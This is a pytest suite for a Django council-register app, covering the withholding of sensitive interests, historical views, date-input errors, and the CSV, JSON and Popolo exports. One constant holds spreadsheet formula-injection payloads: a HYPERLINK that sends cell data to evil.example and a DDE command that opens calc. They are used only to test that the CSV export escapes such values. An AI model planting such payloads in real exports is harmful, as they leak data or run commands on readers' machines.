"""Public register pages and open-data downloads, and the s.32 rule on every public route."""

import csv
import datetime as dt
import html
import io
import json
import re

import pytest
from django.urls import reverse
from freezegun import freeze_time

from nolan.registers import services
from tests.factories import CommitteeMembershipFactory
from tests.registers.factories import (
    SECRET,
    TODAY,
    gift,
    interest,
    officer,
    sensitive_interest,
)

pytestmark = pytest.mark.django_db


def body(response) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


@pytest.fixture
def published(member):
    """A member with one ordinary and one agreed sensitive interest, and one gift."""
    interest(member)
    sensitive = sensitive_interest(member, officer(member.council))
    gift(member)
    return member, sensitive


def public_urls(member):
    c, m = member.council.slug, member.slug
    yesterday = (dt.date.today() - dt.timedelta(days=1)).isoformat()
    return [
        reverse("register-council", args=[c]),
        reverse("register-council", args=[c]) + f"?on={yesterday}",
        reverse("register-csv", args=[c]),
        reverse("register-json", args=[c]),
        reverse("gifts-council", args=[c]),
        reverse("gifts-csv", args=[c]),
        reverse("gifts-json", args=[c]),
        reverse("popolo-json", args=[c]),
        reverse("register-member", args=[c, m]),
        reverse("register-member", args=[c, m]) + f"?on={yesterday}",
        reverse("register-member-changes", args=[c, m]),
        reverse("council", args=[c]),
        reverse("member", args=[c, m]),
        f"/api/councils/{c}/interests/",
        f"/api/councils/{c}/members/{m}/interests/",
        f"/api/councils/{c}/gifts/",
        "/api/schema/",
        reverse("register-member", args=[c, "no-such-member"]),
        reverse("register-council", args=[c]) + "?on=not-a-date",
    ]


def test_sensitive_details_never_reach_any_public_route_or_format(client, published):
    member, _ = published
    for url in public_urls(member):
        response = client.get(url)
        expected = 404 if "no-such-member" in url else 400 if "not-a-date" in url else 200
        assert response.status_code == expected, url
        assert SECRET not in body(response), url


def test_a_sensitive_interest_shows_only_that_details_are_withheld(client, published):
    member, sensitive = published
    page = body(client.get(reverse("register-member", args=[member.council.slug, member.slug])))
    assert "withheld under section 32 of the Localism Act 2011" in page
    assert "Hatfield Bakery Ltd" in page


def test_an_interest_sensitive_now_is_withheld_from_versions_before_the_request(client, member):
    with freeze_time("2025-01-10 12:00"):
        entry = services.register_interest(
            member,
            member.user,
            category="land",
            land_address=f"9 {SECRET} Lane",
            today=dt.date(2025, 1, 10),
        )
    services.request_sensitive(entry, member.user, reasons="Threats")
    url = reverse("register-member", args=[member.council.slug, member.slug])
    past = body(client.get(url + "?on=2025-01-20"))
    assert SECRET not in past
    assert "withheld under section 32" in past
    assert SECRET not in body(
        client.get(reverse("register-member-changes", args=[member.council.slug, member.slug]))
    )


def test_a_pending_sensitive_request_is_withheld_until_refused(client, member):
    mo = officer(member.council)
    entry = services.register_interest(
        member, member.user, category="land", land_address=f"9 {SECRET} Lane"
    )
    services.request_sensitive(entry, member.user, reasons="Threats")
    url = reverse("register-csv", args=[member.council.slug])
    assert SECRET not in body(client.get(url))
    services.decide_sensitive(entry, mo, agree=False, reasons="No risk shown")
    assert SECRET in body(client.get(url))


def test_the_public_register_does_not_say_whether_an_interest_is_the_partners(client, member):
    interest(member, employer="Partner Employer plc", whose="partner")
    for url in public_urls(member)[:4]:
        text = body(client.get(url))
        assert "partner" not in text.lower().replace("partner employer plc", ""), url


def test_the_register_as_it_stood_shows_ended_interests_and_not_later_ones(client, member):
    with freeze_time("2025-01-10 12:00"):
        old = services.register_interest(
            member,
            member.user,
            category="employment",
            employer="Old Employer",
            today=dt.date(2025, 1, 10),
        )
    with freeze_time("2025-02-10 12:00"):
        services.end_interest(old, member.user, end=dt.date(2025, 2, 9), today=dt.date(2025, 2, 10))
        services.register_interest(
            member,
            member.user,
            category="employment",
            employer="New Employer",
            today=dt.date(2025, 2, 10),
        )
    url = reverse("register-member", args=[member.council.slug, member.slug])
    then, now = body(client.get(url + "?on=2025-01-20")), body(client.get(url))
    assert "Old Employer" in then and "New Employer" not in then
    assert "New Employer" in now and "Old Employer" not in now


def test_the_changes_page_lists_what_changed_between_versions(client, member):
    entry = interest(member)
    services.change_interest(entry, member.user, position="Head baker", today=TODAY)
    page = body(
        client.get(reverse("register-member-changes", args=[member.council.slug, member.slug]))
    )
    assert "Baker → Head baker" in page


def test_the_changes_page_says_what_was_added(client, member):
    interest(member)
    page = body(
        client.get(reverse("register-member-changes", args=[member.council.slug, member.slug]))
    )
    assert "interest added" in page
    assert "Hatfield Bakery Ltd" in page and "(blank)" not in page
    # The category by its name in the code, never its data key.
    assert "Employment, office, trade, profession or vocation" in page
    assert "employment" not in page.replace("Employment,", "")


def test_a_malformed_or_future_date_is_an_error_on_the_register_page_itself(client, member):
    interest(member)
    for url in (
        reverse("register-council", args=[member.council.slug]),
        reverse("register-member", args=[member.council.slug, member.slug]),
    ):
        for on, boxes in (("2025-13-01", ("1", "13", "2025")), ("2999-01-01", ("1", "1", "2999"))):
            response = client.get(url + "?on=" + on)
            page = body(response)
            assert response.status_code == 400 and response.context["on_error"], url
            # The date boxes carry the error and the date asked for; the register as it
            # stands today is still there to read.
            assert 'id="on-error"' in page and date_boxes(page) == boxes
            assert "govuk-error-summary" in page and "Hatfield Bakery Ltd" in page


def date_boxes(page: str) -> tuple[str, ...]:
    """What the "as it stood on" day, month and year boxes hold."""
    return tuple(re.findall(r'<input [^>]*name="on_[012]"[^>]*value="([^"]*)"', page))


def test_the_register_pages_ask_for_the_date_in_day_month_and_year_boxes(client, member):
    for url in (
        reverse("register-council", args=[member.council.slug]),
        reverse("register-member", args=[member.council.slug, member.slug]),
    ):
        page = body(client.get(url))
        assert 'class="govuk-date-input"' in page and 'role="group"' in page
        assert date_boxes(page) == ("", "", "")
        assert 'name="on"' not in page
        # A link's ?on= date is read into the boxes, as a reader would type it.
        assert date_boxes(body(client.get(url, {"on": "2025-01-20"}))) == ("20", "1", "2025")


def test_a_date_typed_in_the_boxes_leads_to_the_register_as_it_stood_that_day(client, member):
    interest(member)
    for url in (
        reverse("register-council", args=[member.council.slug]),
        reverse("register-member", args=[member.council.slug, member.slug]),
    ):
        typed = client.get(url, {"on_0": " 20 ", "on_1": "1", "on_2": "2025", "page": "2"})
        # The same address as the page's links and downloads give the date.
        assert typed.status_code == 302 and typed["Location"] == f"{url}?on=2025-01-20"
        page = client.get(typed["Location"])
        assert page.context["on"] == dt.date(2025, 1, 20)
        assert "As it stood at the end of 20 January 2025." in body(page)
        # Boxes left empty mean the register as it stands today.
        empty = client.get(url, {"on_0": "", "on_1": "", "on_2": ""})
        assert empty.status_code == 302 and empty["Location"] == url


@pytest.mark.parametrize(
    ("boxes", "code", "first_box"),
    [
        (("31", "2", "2025"), "bad-date", 0),
        (("1", "March", "2025"), "bad-date", 1),
        (("1", "3", "25"), "bad-date", 2),
        (("", "3", "2025"), "incomplete-date", 0),
        (("1", "3", "2999"), "future-date", 0),
        (("30", "6", "2012"), "too-early", 0),
    ],
)
def test_a_bad_or_future_date_typed_in_the_boxes_is_explained_beside_them(
    client, member, boxes, code, first_box
):
    interest(member)
    url = reverse("register-council", args=[member.council.slug])
    response = client.get(url, dict(zip(("on_0", "on_1", "on_2"), boxes, strict=True)))
    assert response.status_code == 400
    [error] = response.context["as_of_form"].errors.as_data()["on"]
    assert error.code == code
    page = body(response)
    # Said in the error summary, linked to the first box in error, and beside the boxes,
    # which keep what was typed; the register as it stands today is still there to read.
    message = html.escape(response.context["on_error"])
    assert f'<a href="#on_{first_box}">{message}</a>' in page
    assert '<p id="on-error" class="govuk-error-message">' in page and message in page
    assert date_boxes(page) == boxes
    assert "Hatfield Bakery Ltd" in page


def test_the_csv_has_the_documented_columns_stable_identifiers_and_publication_date(
    client, published
):
    member, sensitive = published
    rows = list(
        csv.DictReader(
            io.StringIO(body(client.get(reverse("register-csv", args=[member.council.slug]))))
        )
    )
    from nolan.registers.exports import INTEREST_COLUMNS

    assert list(rows[0]) == INTEREST_COLUMNS
    withheld = next(r for r in rows if r["identifier"] == f"interest-{sensitive.pk}")
    assert (withheld["withheld"], withheld["category"], withheld["land_address"]) == (
        "yes",
        "",
        "",
    )
    assert all(r["published_on"] == dt.date.today().isoformat() for r in rows)
    assert {r["member_identifier"] for r in rows} == {f"member-{member.pk}"}


def test_the_csv_downloads_say_yes_or_no_where_the_json_says_true_or_false(client, published):
    """A resident opening the CSV reads ``yes``/``no``, as the imports take it, never Python's
    ``True``/``False``; the JSON stays machine-readable with real booleans."""
    member, sensitive = published
    council = member.council.slug
    interests = {r["identifier"]: r for r in csv_rows(client, "register-csv", council)}
    assert {r["withheld"] for r in interests.values()} == {"yes", "no"}
    withheld = interests.pop(f"interest-{sensitive.pk}")
    assert withheld["withheld"] == "yes" and withheld["details"].startswith("The member has")
    assert all(r["withheld"] == "no" for r in interests.values())
    (row,) = csv_rows(client, "gifts-csv", council)
    assert (row["accepted"], row["above_threshold"]) == ("yes", "yes")
    gift(member, accepted=False, value_pence=2000, description="Declined tickets")
    refused = next(r for r in csv_rows(client, "gifts-csv", council) if r["accepted"] == "no")
    assert refused["above_threshold"] == "no"
    for name in ("register-csv", "gifts-csv"):
        assert not {"True", "False"} & {
            cell for r in csv_rows(client, name, council) for cell in r.values()
        }
    data = json.loads(body(client.get(reverse("register-json", args=[council]))))
    assert {i["withheld"] for i in data["interests"]} == {True, False}


def test_the_gifts_json_lists_each_gift_with_its_value_in_pence(client, published):
    member, _ = published
    data = json.loads(body(client.get(reverse("gifts-json", args=[member.council.slug]))))
    assert data["council"] == member.council.slug
    assert [(g["value_pence"], g["accepted"], g["above_threshold"]) for g in data["gifts"]] == [
        (7500, True, True)
    ]


def test_the_popolo_export_lists_councillors_terms_and_committees(client, member):
    CommitteeMembershipFactory(member=member, committee__council=member.council)
    data = json.loads(client.get(reverse("popolo-json", args=[member.council.slug])).content)
    person = f"member-{member.pk}"
    assert [p["id"] for p in data["persons"]] == [person]
    classes = sorted(o["classification"] for o in data["organizations"])
    assert classes == ["committee", "council"]
    assert {m["person_id"] for m in data["memberships"]} == {person}
    assert len(data["memberships"]) == 2


def test_gift_values_show_in_pounds(client, member):
    gift(member, value_pence=12345)
    assert "£123.45" in body(client.get(reverse("gifts-council", args=[member.council.slug])))


FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1, "Click")', "+cmd|' /C calc'!A0"]


def csv_rows(client, name, council):
    return list(csv.DictReader(io.StringIO(body(client.get(reverse(name, args=[council]))))))


def test_formulas_typed_into_a_register_open_as_text_in_the_csv_downloads(client, member):
    hyperlink, command = FORMULAS
    interest(member, employer=hyperlink, position=command)
    interest(member, category="sponsorship", body_name="@SUM(A1:A9)", details="-2+3")
    gift(member, donor_name=hyperlink, description=command, occasion="=1+1")
    council = member.council.slug

    interests = csv_rows(client, "register-csv", council)
    employment = next(r for r in interests if r["category"] == "employment")
    sponsorship = next(r for r in interests if r["category"] == "sponsorship")
    assert (employment["employer"], employment["position"]) == ("'" + hyperlink, "'" + command)
    assert (sponsorship["body_name"], sponsorship["details"]) == ("'@SUM(A1:A9)", "'-2+3")

    (row,) = csv_rows(client, "gifts-csv", council)
    assert (row["donor_name"], row["description"]) == ("'" + hyperlink, "'" + command)
    assert row["occasion"] == "'=1+1"
    assert row["value_pence"] == "7500"


def test_the_json_downloads_keep_formula_like_text_exactly_as_typed(client, member):
    hyperlink, _ = FORMULAS
    gift(member, donor_name=hyperlink)
    data = json.loads(body(client.get(reverse("gifts-json", args=[member.council.slug]))))
    assert data["gifts"][0]["donor_name"] == hyperlink


def test_gift_downloads_and_api_give_the_value_in_pounds_beside_the_pence(client, member):
    """Walk: the gifts CSV had value_pence=6500 for £65, read in Excel as £6,500."""
    gift(member, value_pence=6500)
    gift(member, value_pence=12345, donor_name="Other Ltd")
    council = member.council.slug
    rows = csv_rows(client, "gifts-csv", council)
    assert sorted((r["value_pence"], r["value_gbp"]) for r in rows) == [
        ("12345", "123.45"),
        ("6500", "65.00"),
    ]
    data = json.loads(body(client.get(reverse("gifts-json", args=[council]))))
    assert sorted(g["value_gbp"] for g in data["gifts"]) == ["123.45", "65.00"]
    api = client.get(reverse("api-gifts", args=[council])).json()
    assert sorted(g["value_gbp"] for g in api["results"]) == ["123.45", "65.00"]
